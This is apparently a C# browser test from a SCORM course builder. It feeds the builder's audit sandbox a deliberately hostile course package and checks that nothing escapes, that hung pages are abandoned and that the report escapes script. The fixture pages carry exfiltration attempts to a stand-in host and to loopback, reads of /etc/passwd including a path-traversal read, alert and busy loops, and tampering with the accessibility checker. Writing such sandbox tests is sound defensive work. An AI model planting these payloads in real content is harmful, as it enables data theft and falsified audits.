using System.IO.Compression;
using System.Net;
using System.Net.Sockets;
using ScormBuilder.BrowserTests.Harness;

namespace ScormBuilder.BrowserTests.Audit;

/// <summary>The audit of a package that somebody else made, and means ill: nothing gets out, and it comes to an end.</summary>
public sealed class HostilePackageTests
{
    private static readonly TimeSpan Patience = TimeSpan.FromSeconds(4);

    [Test]
    public async Task NothingGetsOut_AndWhatHangsIsGivenUp()
    {
        using var outside = new TcpListener(IPAddress.Loopback, 0);
        outside.Start();
        var port = ((IPEndPoint)outside.LocalEndpoint).Port;
        var folder = Directory.CreateTempSubdirectory("scormbuilder-hostile-").FullName;
        try
        {
            var package = Write(folder, new()
            {
                ["thief"] = Page("Thief", $$"""
                    fetch("https://outside.example/fetch").catch(() => {});
                    fetch("http://127.0.0.1:{{port}}/loopback").catch(() => {});
                    fetch("file:///etc/passwd").catch(() => {});
                    new Image().src = "http://localhost:{{port}}/image";
                    navigator.sendBeacon("http://127.0.0.1:{{port}}/beacon", "secret");
                    new WebSocket("ws://127.0.0.1:{{port}}/socket");
                    new Worker(URL.createObjectURL(new Blob(["new WebSocket('ws://127.0.0.1:{{port}}/worker')"])));
                    if (window.RTCPeerConnection) fetch("https://outside.example/rtc").catch(() => {});
                    open("https://outside.example/window");
                    navigator.serviceWorker.register("worker.js").then(worker => worker && fetch("https://outside.example/service-worker"), () => {});
                    try { top.location = "https://outside.example/top"; } catch {}
                    setTimeout(() => location = "https://outside.example/page");
                    """),
                ["shouter"] = Page("Shouter", "for (;;) alert('again');"),
                ["sleeper"] = Page("Sleeper", "for (;;);"),
                ["climber"] = Page("Climber", "fetch('../../../../etc/passwd').catch(() => {}); Object.prototype.toJSON = () => 'broken'; JSON.stringify = () => '{}'; window.axe = {run: async () => ({violations: []})};", "<img src=\"media/dot.svg\">"),
            });

            using var audited = await Audited.RunAsync(package, Patience);

            Assert.That(outside.Pending(), Is.False, "a connection came through");
            Assert.That(audited.Texts("blocked").ToList(), Is.SupersetOf(new[]
            {
                "request: https://outside.example/fetch", $"request: http://127.0.0.1:{port}/loopback", $"request: http://localhost:{port}/image",
                $"connection: 127.0.0.1:{port}", "page: https://outside.example/page", "dialog: again",
            }.Select(line => audited.Texts("blocked").FirstOrDefault(one => one.StartsWith(line, StringComparison.Ordinal)) ?? line)));
            Assert.That(audited.Texts("blocked"), Has.None.Contains("service-worker").And.None.Contains("rtc"));
            Assert.That(audited.Texts("gaps"), Has.Some.StartsWith("Shouter: The page did not answer").And.Some.StartsWith("Sleeper: The page did not answer"));
            Assert.That(audited.Json.GetProperty("complete").GetBoolean(), Is.False);
            Assert.That(audited.List("pages").Select(page => Audited.Text(page, "id")), Is.EqualTo(["item-thief", "item-climber"]));
            Assert.That(audited.Findings, Does.Contain("axe: image-alt at img"));
            Assert.That(audited.Status, Is.EqualTo(1));
            Assert.That(audited.Time, Is.LessThan(TimeSpan.FromSeconds(60)));
            var report = await File.ReadAllTextAsync(audited.Html);
            Assert.That(report, Does.Contain("https://outside.example/fetch").And.Not.Contain("<script"));
        }
        finally
        {
            Directory.Delete(folder, true);
        }
    }

    private static string Page(string title, string script, string body = "") => $"""
        <!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>{title}</title></head>
        <body><main><h1>{title} &lt;script&gt;</h1>{body}</main><script>{script}</script></body></html>
        """;

    private static string Write(string folder, Dictionary<string, string> pages)
    {
        var path = Path.Combine(folder, "hostile.zip");
        using var zip = ZipFile.Open(path, ZipArchiveMode.Create);
        Add("imsmanifest.xml", $"""
            <manifest identifier="M" version="1" xmlns="http://www.imsproject.org/xsd/imscp_rootv1p1p2" xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_rootv1p2">
              <metadata><schema>ADL SCORM</schema><schemaversion>1.2</schemaversion></metadata>
              <organizations default="O"><organization identifier="O"><title>&lt;script&gt;alert(1)&lt;/script&gt;</title>
                {string.Concat(pages.Keys.Select(name => $"<item identifier=\"item-{name}\" identifierref=\"{name}\"><title>{char.ToUpperInvariant(name[0])}{name[1..]}</title></item>"))}
              </organization></organizations>
              <resources>{string.Concat(pages.Keys.Select(name => $"<resource identifier=\"{name}\" type=\"webcontent\" adlcp:scormtype=\"sco\" href=\"{name}.html\"><file href=\"{name}.html\"/></resource>"))}</resources>
            </manifest>
            """);
        Add("worker.js", "self.onfetch = () => {};");
        Add("media/dot.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"40\" height=\"40\"><circle r=\"20\"/></svg>");
        foreach (var (name, page) in pages)
        {
            Add($"{name}.html", page);
        }

        return path;

        void Add(string name, string text)
        {
            using var writer = new StreamWriter(zip.CreateEntry(name).Open());
            writer.Write(text);
        }
    }
}
